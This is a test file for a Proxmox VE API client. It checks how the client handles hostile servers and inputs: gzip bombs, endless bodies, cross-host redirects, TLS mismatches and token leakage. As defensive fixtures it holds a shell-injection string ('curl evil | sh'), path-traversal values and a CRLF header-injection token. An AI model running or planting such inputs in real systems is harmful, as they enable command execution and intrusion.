/** What becomes of a call to Proxmox VE, whatever the server does with it. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ConfigError } from "../../src/config/error.ts";
import { Secret } from "../../src/config/secret.ts";
import { PveApi, type PveApiOptions } from "../../src/demo/pve-api.ts";
import { PVE_TEST_CERTIFICATE, PVE_TEST_ROOT } from "../../src/demo/pve-certificate.ts";
import { PveCluster, type PveClusterSize } from "../../src/demo/pve-cluster.ts";
import { AUDITOR, type PveUser } from "../../src/demo/pve-users.ts";
import type { PveEndpoint } from "../../src/pve/endpoint.ts";
import { PveFailure } from "../../src/pve/failure.ts";
import {
  answer,
  type Conduct,
  endlessBody,
  gzipBomb,
  hangUp,
  json,
  notHttp,
  redirect,
  reset,
  resetInBody,
  silence,
  slowBody,
  truncated,
} from "../support/hostile-server.ts";
import { freePort } from "../support/ports.ts";
import { byToken, Caller, FINGERPRINT, hostile, outcomeOf, refusing, SECRET } from "./calling.ts";

async function simulated(
  options: Partial<PveApiOptions> = {},
  size: Partial<PveClusterSize> = {},
): Promise<AsyncDisposable & { readonly api: PveApi; readonly url: string }> {
  const cluster = new PveCluster({ nodes: 3, guests: 12, release: "9.2", ...size });
  const knobs = { unauthorizedDelayMs: 0, ...options.knobs };
  const api = new PveApi(cluster, { users: [AUDITOR], ...options, knobs });
  const url = await api.start();
  return { api, url, [Symbol.asyncDispose]: () => api.stop() };
}

describe("a call", () => {
  test("is answered with `data`, and is counted and told of", async () => {
    await using server = await simulated();
    using caller = new Caller(server.url);
    expect(await caller.get("/version")).toMatchObject({
      data: { release: expect.stringMatching(/^9\./) },
    });
    expect(await caller.results()).toEqual({ ok: 1 });
    expect(caller.sent).toMatchObject([
      { method: "GET", url: `${server.url}/api2/json/version`, result: "ok" },
    ]);
    expect(caller.told).not.toContain(SECRET);
  });

  test("is a GET below /api2/json with the token, without a body, and asks for nothing packed", async () => {
    const { asked } = await outcomeOf(json({ data: [] }), { path: "/nodes/pve1/disks/list?skipsmart=1" });
    expect(asked).toMatchObject([
      { method: "GET", path: "/api2/json/nodes/pve1/disks/list?skipsmart=1", body: "" },
    ]);
    const { headers } = asked[0] ?? { headers: new Map() };
    expect(headers.get("authorization")).toBe(`PVEAPIToken=plumbline@pve!metrics=${SECRET}`);
    expect(headers.get("accept-encoding")).toBe("identity");
    expect(headers.has("cookie")).toBe(false);
  });

  test("goes below the prefix of a proxy", async () => {
    await using server = await hostile(json({ data: 1 }));
    using caller = new Caller(`${server.origin}/pve`);
    expect(await caller.get("/version")).toEqual({ data: 1 });
    expect(server.paths).toEqual(["/pve/api2/json/version"]);
  });

  test.each([
    "/../access/users",
    "/nodes/%2e%2e/access",
    "/nodes/./pve1",
    "/nodes/a\nb",
    "/nodes/a#b",
    "//host/x/..",
  ])("is not made for %j, which is no plain path", async (path) => {
    const { asked, failure } = await outcomeOf(json({ data: [] }), { path });
    expect(failure).toMatchObject({ reason: "invalid", status: undefined });
    expect(asked).toEqual([]);
  });

  test("that is packed though nobody asked for it is unpacked", async () => {
    const packed = Bun.gzipSync('{"data":[1,2]}');
    const { data } = await outcomeOf(answer(200, packed, { "content-encoding": "gzip" }));
    expect(data).toEqual([1, 2]);
  });

  test("may be answered with null, which its caller has to judge", async () => {
    expect((await outcomeOf(json({ data: null }))).data).toBeNull();
  });

  test("tells what the server's clock says", async () => {
    const date = "Fri, 20 Mar 2026 09:46:40 GMT";
    await using server = await hostile(answer(200, '{"data":1}', { date }));
    using caller = new Caller(server.origin);
    expect(caller.client.serverDate).toBeUndefined();
    await caller.get();
    expect(caller.client.serverDate).toBe(Date.parse(date));
    server.conduct = answer(200, '{"data":1}', { date: "yesterday" });
    await caller.get();
    expect(caller.client.serverDate).toBe(Date.parse(date));
  });

  test("that is given up by its caller ends with the caller's reason, and is not counted", async () => {
    await using server = await hostile(silence);
    using caller = new Caller(server.origin);
    const giving = new AbortController();
    const call = caller.get("/version", { signal: giving.signal });
    while (server.asked.length === 0) await Bun.sleep(5);
    const mine = new PveFailure("unreachable", "/other", "mine");
    giving.abort(mine);
    expect((await call).failure).toBe(mine);
    expect(await caller.results()).toEqual({});
    while (server.open > 0) await Bun.sleep(5);
  });
});

const permission = "403 Permission check failed (/nodes/pve1, Sys.Audit)";
const gone = "Configuration file 'nodes/pve1/qemu-server/100.conf' does not exist";

/** Case, what the server does, the reason, and what else is known. */
const FAILURES: readonly (readonly [string, Conduct, string, Readonly<Record<string, unknown>>?])[] = [
  [
    "401 of release 9",
    refusing("401 Authentication failed!"),
    "unauthorized",
    { status: 401, phrase: "Authentication failed!" },
  ],
  ["401 of release 8", refusing("401 No ticket"), "unauthorized", { status: 401, phrase: "No ticket" }],
  [
    "403",
    refusing(permission),
    "forbidden",
    { status: 403, missing: { path: "/nodes/pve1", privilege: "Sys.Audit" } },
  ],
  [
    "403 for one of two rights on the root",
    refusing("403 Permission check failed (/, Sys.Audit|Datastore.Audit)"),
    "forbidden",
    { missing: { path: "/", privilege: "Sys.Audit|Datastore.Audit" } },
  ],
  ["403 that names no right", refusing("403 Permission check failed"), "forbidden", { missing: undefined }],
  [
    "403 with shell text where the path should be",
    refusing("403 Permission check failed (/x; curl evil | sh, Sys.Audit)"),
    "forbidden",
    { missing: undefined },
  ],
  ["595", refusing("595 No route to host"), "unreachable", { status: 595, network: undefined }],
  ["596", refusing("596 Connection timed out"), "unreachable", { status: 596, network: undefined }],
  ["597", refusing("597 Connection reset by peer"), "unreachable", { status: 597 }],
  ["599", refusing("599 Too many redirections"), "unreachable", { status: 599 }],
  [
    "500 for a node that nobody knows",
    refusing("500 hostname lookup 'pve9' failed - failed to get address info"),
    "unreachable",
    { status: 500 },
  ],
  ["500 for a guest that has moved", refusing(`500 ${gone}`), "gone", { status: 500, phrase: gone }],
  ["500 for anything else", refusing("500 got lock request timeout"), "error", { status: 500 }],
  ["501", refusing("501 Method not implemented"), "error", { status: 501 }],
  ["400", refusing("400 Parameter verification failed.", '{"errors":{"x":"planted"}}'), "error"],
  ["502 of a proxy, in HTML", refusing("502 Bad Gateway", "<html>planted</html>"), "error", { status: 502 }],
  ["a redirect", redirect(302, "https://127.0.0.1:1/"), "error", { status: 302 }],
  ["what is not JSON", answer(200, "<html>planted</html>"), "invalid", { status: 200 }],
  ["JSON that ends in the middle", answer(200, '{"data":"planted'), "invalid", { status: 200 }],
  ["JSON without data", json({ message: "planted" }), "invalid"],
  ["JSON that is no object", json("planted"), "invalid"],
  ["another protocol", notHttp, "invalid", { network: undefined }],
  ["fewer bytes than were promised", truncated, "invalid", { status: 200 }],
  ["a reset within the body", resetInBody, "invalid", { status: 200 }],
  ["a body that never ends", endlessBody, "too_large", { status: 200 }],
  ["a gzip bomb", gzipBomb(64 << 20), "too_large", { status: 200 }],
  ["no answer", silence, "timeout", { status: undefined, network: undefined }],
  ["a body that comes byte by byte", slowBody, "timeout"],
  ["a reset in place of an answer, twice", reset, "unreachable", { network: "connect" }],
  ["the end of the connection in place of an answer, twice", hangUp, "unreachable", { network: "connect" }],
];

describe("an answer that is none is a failure with its reason", () => {
  test.each(FAILURES.map((failure) => ({ failure, name: failure[0] })))("$name", async ({ failure }) => {
    const [, conduct, reason, known = {}] = failure;
    const limitMs = reason === "timeout" ? 300 : 10_000;
    const outcome = await outcomeOf(conduct, { limitMs, path: "/nodes/pve1/status?planted=query" });
    expect(outcome.failure).toMatchObject({ reason, path: "/nodes/pve1/status", ...known });
    expect(outcome.failure?.message).toContain("/api2/json/nodes/pve1/status");
    expect(outcome.failure?.message).not.toMatch(/planted/);
    const result = outcome.failure?.network === undefined ? reason : "network";
    expect(outcome.results).toMatchObject({ [result]: 1 });
    expect(outcome.told).not.toContain(SECRET);
  });

  test("what a server says in the body is taken where its status line says nothing", async () => {
    const body = JSON.stringify({ data: null, message: `${gone}\n` });
    const { failure } = await outcomeOf(refusing("500 ", body));
    expect(failure).toMatchObject({ reason: "gone", phrase: gone });
  });

  test("a status line is not doubted for what the body says", async () => {
    const { failure } = await outcomeOf(refusing("500 Other", JSON.stringify({ data: null, message: gone })));
    expect(failure).toMatchObject({ reason: "error", phrase: "Other" });
  });

  test("where nobody listens", async () => {
    using caller = new Caller(`https://127.0.0.1:${await freePort()}`);
    expect((await caller.get()).failure).toMatchObject({ reason: "unreachable", network: "connect" });
    expect(await caller.results()).toEqual({ network: 1 });
  });

  test("where an answer of 40 MiB is more than the call may have", async () => {
    const { failure } = await outcomeOf(answer(200, `{"data":"${"x".repeat(40 << 20)}"}`), {
      maxBytes: 32 << 20,
    });
    expect(failure).toMatchObject({ reason: "too_large" });
  });

  test("where the redirect names another host, that one is not asked", async () => {
    await using other = await hostile(json({ data: 1 }));
    const { failure } = await outcomeOf(redirect(307, `${other.origin}/api2/json/version`));
    expect(failure).toMatchObject({ reason: "error", status: 307 });
    expect(other.connections).toBe(0);
  });
});

describe("of both ages of Proxmox VE", () => {
  test.each([
    ["8.4", "old"],
    ["9.2", "new"],
  ] as const)("release %s tells why it refuses, with %s bodies", async (release, errorBodies) => {
    const blind: PveUser = { ...AUDITOR, acl: { "/": ["PVEAuditor"], "/nodes/pve2": ["NoAccess"] } };
    await using server = await simulated({ users: [blind], errorBodies }, { release });
    using caller = new Caller(server.url);
    expect((await caller.get("/nodes/pve2/status")).failure).toMatchObject({
      reason: "forbidden",
      missing: { path: "/nodes/pve2", privilege: "Sys.Audit" },
    });
    expect((await caller.get("/nodes/pve1/qemu/999999/config")).failure).toMatchObject({ reason: "gone" });
    expect((await caller.get("/nodes/pve9/status")).failure).toMatchObject({ reason: "unreachable" });
    using stranger = new Caller(server.url, { credentials: byToken("wrong") });
    expect((await stranger.get()).failure).toMatchObject({ reason: "unauthorized", status: 401 });
  });

  test("a node that hangs is unreachable, and the others are not", async () => {
    await using server = await simulated({ knobs: { hangMs: 50 } });
    server.api.cluster.befall({ kind: "node", node: "pve3", condition: "hung" });
    using caller = new Caller(server.url);
    expect((await caller.get("/nodes/pve3/status")).failure).toMatchObject({
      reason: "unreachable",
      status: 596,
    });
    expect((await caller.get("/nodes/pve2/status")).failure).toBeUndefined();
  });
});

describe("a connection", () => {
  test("serves many calls, and is replaced where the server ends it", async () => {
    await using server = await simulated({ knobs: { requestsPerConnection: 10 } });
    using caller = new Caller(server.url);
    for (let call = 0; call < 25; call++) expect((await caller.get()).failure).toBeUndefined();
    expect(server.api.requests.connections).toBe(3);
    expect(await caller.results()).toEqual({ ok: 25 });
  });

  test.each([
    ["reset", reset],
    ["closed", hangUp],
  ])("that is %s before the status line costs one more request", async (_, conduct) => {
    await using server = await hostile((connection, asked) =>
      (server.asked.length === 1 ? conduct : json({ data: 1 }))(connection, asked),
    );
    using caller = new Caller(server.origin);
    expect(await caller.get()).toEqual({ data: 1 });
    expect(await caller.results()).toEqual({ ok: 1, retried: 1 });
    expect(server.paths).toEqual(["/api2/json/version", "/api2/json/version"]);
  });

  test("that is reset again is not tried a third time", async () => {
    const { results, asked } = await outcomeOf(reset);
    expect(asked).toHaveLength(2);
    expect(results).toEqual({ retried: 1, network: 1 });
  });

  test.each(["403 no", "500 no", "596 no"])("is not used for another request after %s", async (line) => {
    const { asked } = await outcomeOf(refusing(line));
    expect(asked).toHaveLength(1);
  });
});

describe("the server is trusted", () => {
  let directory: string;
  let caFile: string;
  beforeAll(() => {
    directory = mkdtempSync(join(tmpdir(), "plumbline-pve-"));
    caFile = join(directory, "root-ca.pem");
    writeFileSync(caFile, PVE_TEST_ROOT);
  });
  afterAll(() => rmSync(directory, { recursive: true }));

  const asking = async (tls: PveEndpoint["tls"]) => {
    await using server = await hostile(json({ data: 1 }));
    using caller = new Caller(server.origin, { tls });
    return { ...(await caller.get()), asked: server.asked.length };
  };

  test("by the authority of its cluster", async () => {
    expect(await asking({ caFile, verify: true })).toEqual({ data: 1, asked: 1 });
  });

  test("by its fingerprint", async () => {
    expect(await asking(FINGERPRINT)).toEqual({ data: 1, asked: 1 });
  });

  test("whoever it is, where nothing is verified", async () => {
    expect(await asking({ verify: false })).toEqual({ data: 1, asked: 1 });
  });

  test.each([
    ["nothing is said of it", { verify: true }],
    ["it has another fingerprint", { verify: true, fingerprint: "00".repeat(32) }],
    ["it has another fingerprint, also without verification", { verify: false, fingerprint: "00" }],
  ])("not, and sees no token, where %s", async (_, tls) => {
    const { failure, asked } = await asking(tls);
    expect(failure).toMatchObject({ reason: "unreachable", network: "tls" });
    expect(asked).toBe(0);
  });

  test("by what the file of the authority holds now", async () => {
    await using server = await hostile(json({ data: 1 }));
    const file = join(directory, "current.pem");
    writeFileSync(file, PVE_TEST_CERTIFICATE.cert);
    using caller = new Caller(server.origin, { tls: { caFile: file, verify: true } });
    expect((await caller.get()).failure).toMatchObject({ network: "tls" });
    copyFileSync(caFile, file);
    expect(await caller.get()).toEqual({ data: 1 });
    rmSync(file);
    expect((await caller.get()).failure).toMatchObject({
      reason: "unauthorized",
      status: undefined,
      message: `cannot use the CA file ${file}: no such file; copy the cluster's /etc/pve/pve-root-ca.pem there, for plumbline's user to read`,
    });
  });
});

describe("the token", () => {
  test.each([
    ["whole", SECRET],
    ["with its header's name", "PVEAPIToken=x"],
    ["in part", `invalid ${SECRET.slice(9, 18)}`],
  ])("is not shown by an error whose reason phrase repeats it: %s", async (_, phrase) => {
    const { failure, told } = await outcomeOf(refusing(`401 ${phrase}`));
    expect(failure).toMatchObject({ reason: "unauthorized", phrase: undefined });
    expect(told).not.toContain(SECRET.slice(9, 18));
  });

  test.each([
    ["plainly", JSON.stringify({ data: [{ name: SECRET }] })],
    ["in escapes", `{"data":"\\u0038${SECRET.slice(1)}"}`],
  ])("makes an answer useless that gives it back %s", async (_, body) => {
    const { failure, told } = await outcomeOf(answer(200, body));
    expect(failure).toMatchObject({ reason: "invalid" });
    expect(told).not.toContain(SECRET);
  });

  test("that no header may hold is sent to nobody, and not shown", async () => {
    await using server = await hostile(json({ data: 1 }));
    using caller = new Caller(server.origin, { credentials: byToken("planted\r\nx: y") });
    expect((await caller.get()).failure).toMatchObject({ reason: "unauthorized", status: undefined });
    expect(server.connections).toBe(0);
    expect(caller.told).not.toContain("planted");
  });

  test("that cannot be read is a failure that tells of the file", async () => {
    const unreadable = new Secret(() => {
      throw new ConfigError({ text: "token_file: cannot read the secret in /x: no such file" });
    });
    await using server = await hostile(json({ data: 1 }));
    const credentials = { kind: "token", user: "a@pve", tokenName: "b", secret: unreadable } as const;
    using caller = new Caller(server.origin, { credentials });
    expect((await caller.get()).failure).toMatchObject({
      reason: "unauthorized",
      message: "token_file: cannot read the secret in /x: no such file",
    });
  });

  test("is the one that its file holds at each call", async () => {
    let current = "first";
    await using server = await hostile(json({ data: 1 }));
    const reading = new Secret(() => current);
    const credentials = { kind: "token", user: "a@pve", tokenName: "b", secret: reading } as const;
    using caller = new Caller(server.origin, { credentials });
    await caller.get();
    current = "second";
    await caller.get();
    expect(server.asked.map(({ headers }) => headers.get("authorization"))).toEqual([
      "PVEAPIToken=a@pve!b=first",
      "PVEAPIToken=a@pve!b=second",
    ]);
  });
});

test("a reason phrase with what controls a terminal is shown without it, and not endlessly", async () => {
  const { failure } = await outcomeOf(refusing(`500 \x1b[31mred\x07${"x".repeat(1000)}`));
  expect(failure?.phrase).toMatch(/^\[31mredx+$/);
  expect(failure?.phrase?.length).toBeLessThanOrEqual(200);
});

test("each result is counted from 0 on, so that a first failure is an increase", async () => {
  await using server = await hostile(json({ data: 1 }));
  using caller = new Caller(server.origin);
  expect(Object.keys(await caller.allResults())).toEqual([
    "ok",
    "retried",
    "network",
    "unreachable",
    "timeout",
    "forbidden",
    "unauthorized",
    "gone",
    "error",
    "too_large",
    "invalid",
  ]);
});
